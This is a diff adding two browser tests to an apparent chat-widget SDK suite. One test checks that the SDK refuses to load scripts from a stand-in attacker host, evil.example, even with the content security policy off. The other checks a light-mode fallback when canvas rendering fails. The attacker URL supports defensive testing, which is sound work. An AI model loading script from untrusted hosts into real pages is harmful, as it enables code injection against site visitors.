@@ -114,6 +114,17 @@ def test_a_pasted_sdk_that_failed_is_replaced(page: Page, site: Site, pod: Previ
     expect(page.locator("script[src*='/embed/sdk.js']")).to_have_count(1)
 
 
+def test_our_policy_lets_no_other_script_in(page: Page, site: Site, pod: PreviewPod) -> None:
+    site.csp = None
+    requests: list[str] = []
+    page.on("request", lambda request: requests.append(request.url))
+    page.goto(site.add(chat()))
+    for path in ("/other.js", "/embed/sdk.json", "/symphony-ecp/symphony-ecp-pod.js"):
+        load = f"symphonyEcp.load('https://evil.example{path}').catch(e => e.code)"
+        assert page.evaluate(load) == "unreachable"
+    assert not [url for url in requests if "evil" in url]
+
+
 def test_a_copy_of_a_chat_is_a_chat(page: Page, site: Site, pod: PreviewPod) -> None:
     page.goto(site.add(chat()))
     page.evaluate("{ const c = document.querySelector('symphony-chat'); c.after(c.cloneNode(1)) }")
@@ -294,6 +305,14 @@ def test_a_page_that_is_dark_in_its_own_way_is_dark(
     open_chat(page)
     expect_state(page, "ready")
     expect(frame_of(page).locator("html")).to_have_attribute("data-mode", "dark")
+
+
+def test_a_browser_that_paints_nothing_is_light(page: Page, site: Site, pod: PreviewPod) -> None:
+    page.add_init_script("HTMLCanvasElement.prototype.getContext = () => null")
+    page.goto(site.add(chat()))
+    open_chat(page)
+    expect_state(page, "ready")
+    expect(frame_of(page).locator("html")).to_have_attribute("data-mode", "light")
 
 
 @pytest.mark.parametrize("rendering", ["sdk", "open"])
